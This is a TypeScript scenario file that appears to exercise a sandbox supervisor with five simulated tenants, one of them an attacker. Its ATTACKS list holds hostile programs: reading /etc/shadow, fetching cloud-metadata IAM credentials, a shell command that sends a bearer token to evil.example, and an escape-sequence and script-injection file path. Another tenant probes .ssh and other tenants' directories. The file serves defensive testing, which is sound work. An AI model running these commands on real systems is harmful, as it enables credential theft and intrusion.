// A service that runs the code of five tenants, none of which is like another: one works, one is denied what it needs by a
// policy that is one rule short, one looks around the file system, one attacks, one has a broker with a fault, so that the kernel alone
// refuses; now and then native code gets out of that one's isolate, and the kernel ends it.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

import { parsePolicy, PolicyError } from "@pyisolate/policy";
import { Supervisor, type Sandbox } from "@pyisolate/sandbox-core";

import { flawedSandbox } from "../flaws/flawed-sandbox.ts";
import { live } from "./service.ts";

/** What the attacker tries, in turn. */
const ATTACKS = [
  `require("node:fs").readFileSync("/etc/shadow")`,
  `fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")`,
  `require("node:child_process").execFileSync("/bin/sh", ["-c", "curl -H 'Authorization: Bearer s3cret' evil.example"])`,
  `require("node:fs").readFileSync("/tmp/\\u001b[2J\\u202egnp.<script>alert(1)</script>")`,
  `crypto.randomUUID()`,
  `require("node:net")`,
  `for (;;) {}`,
];

/** The paths that the tenant asks for who looks around the file system. */
const SIGHTS = ["/etc", "/root", "/home/kim/.ssh", "/var/lib", "/proc/1", "/srv/other-tenant"];

const TOKEN = "s3cret";

await live("plugins", async ({ denials, every }) => {
  const api = createServer((_, response) => response.end("{}"));
  await new Promise<void>((resolve) => {
    api.listen(0, "127.0.0.1", resolve);
  });
  const { port } = api.address() as AddressInfo;
  const rules = [
    { id: "api", effect: "allow", capability: "network", hosts: [`127.0.0.1:${port}`] },
    {
      id: "std",
      effect: "allow",
      capability: "import",
      modules: ["node:fs", "node:child_process"],
    },
    { id: "dotenv", effect: "deny", capability: "filesystem", paths: ["**/.env"] },
    {
      id: "data",
      effect: "allow",
      capability: "filesystem",
      operations: ["read"],
      paths: ["/usr/**"],
    },
  ];
  const limits = { wall_ms: 1000, cpu_ms: 500 };
  const policy = (name: string, more: object[] = []) =>
    parsePolicy({ version: 1, name, rules: [...rules, ...more], limits });
  await using supervisor = new Supervisor({ policy: policy("plugins"), denials, token: TOKEN });
  using flawed = await flawedSandbox();
  await using faulty = new flawed.Supervisor({ policy: policy("plugins"), denials, pool: 0 });

  /** The cell of a tenant: a new one where the last has ended. */
  const cells = new Map<string, Sandbox>();
  const cellOf = async (tenant: string) => {
    const last = cells.get(tenant);
    if (last !== undefined && !last.closed) return last;
    const cell = await (tenant === "tenant-e" ? faulty : supervisor).spawn(tenant);
    cells.set(tenant, cell);
    return cell;
  };
  const run = async (tenant: string, program: string) => {
    const cell = await cellOf(tenant);
    try {
      await cell.exec(program);
    } catch (error) {
      // A limit ends the cell: the next program has another one.
      if (error instanceof PolicyError && ["limit", "closed"].includes(error.denialEvent.reason)) {
        cells.delete(tenant);
        await cell.close();
      }
      throw error;
    }
  };

  let turn = 0;
  let visits = 0;
  await Promise.all([
    every(300, async () => {
      await run("tenant-a", `fetch("http://127.0.0.1:${port}/").then(() => "fine")`);
    }),
    every(1500, async () => {
      await run("tenant-a", `require("node:fs").readFileSync("/usr/share/app/.env")`);
    }),
    every(700, async () => {
      await run("tenant-b", `fetch("https://billing.internal.example:8443/invoices?key=abc")`);
    }),
    every(4000, async () => {
      const path = SIGHTS[turn % SIGHTS.length] ?? "/";
      await run(
        "tenant-c",
        `const fs = require("node:fs");
         for (let n = 0; n < 200; n++) try { fs.readFileSync("${path}/" + n) } catch {}`,
      );
    }),
    every(2000, async () => {
      await run("tenant-d", ATTACKS[turn++ % ATTACKS.length] ?? "");
    }),
    every(20_000, async () => {
      const { pid } = await cellOf("tenant-e");
      if (++visits % 3 === 0) process.kill(pid, "SIGUSR2");
      else await run("tenant-e", `require("node:fs").readFileSync("/etc/passwd")`);
    }),
    every(45_000, async () => {
      await supervisor.reloadPolicy(policy("plugins"), "guessed").catch(() => {});
      const rng = { id: "rng", effect: "allow", capability: "random" };
      await supervisor.reloadPolicy(policy("plugins", turn % 2 === 0 ? [rng] : []), TOKEN);
    }),
  ]);
  api.close();
  api.closeAllConnections();
});
